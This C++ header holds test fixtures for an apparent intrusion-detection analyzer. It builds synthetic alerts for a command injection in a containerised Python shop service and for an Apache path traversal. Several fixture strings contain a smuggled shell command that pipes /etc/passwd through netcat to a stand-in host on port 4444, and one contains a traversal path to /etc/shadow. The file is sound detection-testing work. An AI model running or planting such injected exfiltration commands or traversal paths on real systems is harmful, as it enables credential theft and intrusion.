// A realistic incident for tests and for looking at: a Python web service that is made to start a shell.
//
//   da::Notification note = da::test::command_injection();
#pragma once

#include <string>
#include <utility>
#include <vector>

#include "analyzer/notify/notification.h"

namespace da::test {

inline constexpr std::int64_t kMillisecond = 1'000'000;
/// 2026-11-24 03:12:07.120 UTC
inline constexpr std::int64_t kAttackTime = 1'795'489'927'120 * kMillisecond;

inline Alert web_alert(std::string id, AlertKind kind, std::string executable) {
  Alert alert;
  alert.id = std::move(id);
  alert.kind = kind;
  alert.time_ns = kAttackTime;
  alert.host = "host7";
  alert.container_id = "4f66a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e";
  alert.container_name = "web";
  alert.labels = std::string("com.docker.compose.project=shop\0com.docker.compose.service=web", 62);
  alert.image = "shop:1.4";
  alert.image_id = "sha256:9c7a54a9a43cca047013b82af109fe963fde787f63f9e016fdc3384500c2823d";
  alert.executable = std::move(executable);
  alert.pid = Pid{48211};
  alert.tid = Tid{48211};
  alert.parent_executable = "/usr/local/bin/python3.11";
  alert.parent_pid = Pid{48102};
  alert.profile = "armed; learned 412,904 calls of 1,377 threads in 6 days";
  return alert;
}

inline void add_calls(Alert& alert, const std::vector<std::pair<int, std::string>>& calls) {
  for (const auto& [offset_ms, text] : calls) {
    alert.calls.push_back({alert.time_ns + offset_ms * kMillisecond, alert.tid, text, false});
  }
}

/// Quiet until the last step of five seconds; nothing was judged for a while.
inline ScoreHistory quarter_of_an_hour(std::int64_t until_ns, std::int32_t last) {
  constexpr std::int64_t step = 5'000 * kMillisecond;
  ScoreHistory scores{(until_ns / step + 1) * step, step, {}};
  for (int i = 0; i < 179; ++i)
    scores.values.push_back(i >= 60 && i < 75 ? -1 : i % 17 == 3 || i % 29 == 7 ? 1 : i == 131 ? 2 : 0);
  scores.values.push_back(last);
  return scores;
}

/// python3.11 forks in the middle of a request.
inline Alert python_departs() {
  Alert alert = web_alert("a-5d1c09e77a42", AlertKind::unseen_sequence, "/usr/local/bin/python3.11");
  alert.time_ns -= 11 * kMillisecond;
  alert.pid = Pid{48102};
  alert.tid = Tid{48109};
  alert.parent_executable = "/usr/local/bin/gunicorn";
  alert.parent_pid = Pid{48077};
  alert.command_line = std::string("python3.11\0-m\0shop.web\0--db-password=hunter2\0", 46);
  alert.score = 9;
  alert.threshold = 3;
  alert.score_meaning = "departures from known sequences among the last 20 calls";
  alert.scores = quarter_of_an_hour(alert.time_ns, 9);
  add_calls(
      alert,
      {{-6, "accept4(fd=5, upeer_sockaddr=172.18.0.1:51532, upeer_addrlen=[16], flags=SOCK_CLOEXEC) = 9"},
       {-5, "recvfrom(fd=9, ubuf=0x7f3a9c0147d0, size=8192, flags=0, addr=NULL, addr_len=NULL) = 214"},
       {-4, "stat(filename=\"/srv/shop/templates/order.html\", statbuf=0x7ffd3c1e8a10) = 0"},
       {-3, "pipe2(fildes=0x7ffd3c1e88d0, flags=O_CLOEXEC) = 0"},
       {-2, "pipe2(fildes=0x7ffd3c1e88d8, flags=O_CLOEXEC) = 0"},
       {0, "vfork() = 48211"},
       {1, "close(fd=13) = 0"},
       {2, "read(fd=12, buf=0x55d0a4e2c010, count=50000) = 0"}});
  alert.first_unseen = 5;
  alert.calls[5].unseen = true;
  alert.calls[6].unseen = true;
  alert.unseen_ngram = {"accept4", "recvfrom", "stat", "pipe2", "pipe2", "vfork"};
  alert.expected = {{"openat", 0.914}, {"sendto", 0.061}, {"close", 0.004}};
  return alert;
}

inline Alert shell_starts() {
  Alert alert = web_alert("a-0b9e3f1d2c55", AlertKind::new_executable, "/bin/dash");
  alert.started_by = alert.parent_executable;
  alert.command_line = std::string("sh\0-c\0convert order.pdf; cat /etc/passwd|nc 203.0.113.9 4444\0", 61);
  add_calls(alert,
            {{0,
              "execve(filename=\"/bin/sh\", argv=[\"sh\", \"-c\", \"convert order.pdf; cat /etc/passwd|nc "
              "203.0.113.9 4444\"], envp=0x7ffd3c1e9f00) = 0"}});
  alert.first_unseen = 0;
  alert.calls[0].unseen = true;
  alert.unseen_ngram = {"execve"};
  return alert;
}

inline Alert netcat_starts() {
  Alert alert = web_alert("a-77aa01c4e9d8", AlertKind::new_executable, "/bin/nc.openbsd");
  alert.time_ns += 19 * kMillisecond;
  alert.pid = Pid{48213};
  alert.tid = Tid{48213};
  alert.started_by = alert.parent_executable = "/bin/dash";
  alert.parent_pid = Pid{48211};
  alert.command_line = std::string("nc\000203.0.113.9\0004444\0", 20);
  return alert;
}

/// The same worker reads what it never did.
inline Alert traversal() {
  Alert alert = web_alert("read-5b1f0c2ad94e7788", AlertKind::new_directory_read, "/usr/sbin/apache2");
  alert.command_line = std::string("apache2\0-DFOREGROUND\0", 21);
  add_calls(
      alert,
      {{-6, "accept4(fd=5, upeer_sockaddr=172.18.0.1:51532, upeer_addrlen=[16], flags=SOCK_CLOEXEC) = 9"},
       {0, "openat(dfd=AT_FDCWD, filename=\"/var/www/../../etc/shadow\", flags=O_RDONLY, mode=0) = 10"}});
  alert.first_unseen = 1;
  alert.calls[1].unseen = true;
  alert.found = "opens /var/www/../../etc/shadow, never seen";
  alert.object = "/etc/shadow (while serving)";
  alert.usual = "/var/www, /usr/lib, /proc/self and 3 more";
  alert.behaviour = {"sha256:1", "/usr/sbin/apache2", 0, "", {}, {}};
  alert.behaviour.object = std::string("reads\0(serving)\0etc\0shadow", 26);
  return alert;
}

inline Notification command_injection() {
  Notification note;
  note.incident = "inc-6b1f0c2ad94e7788";
  note.alerts = {python_departs(), shell_starts(), netcat_starts()};
  note.host = note.alerts[0].host;
  note.container_id = note.alerts[0].container_id;
  note.container_name = note.alerts[0].container_name;
  note.labels = note.alerts[0].labels;
  note.image = note.alerts[0].image;
  note.counts = {{AlertKind::new_executable, "/bin/dash", 4, kAttackTime + 900 * kMillisecond, true}};
  note.total = 7;
  return note;
}

}  // namespace da::test
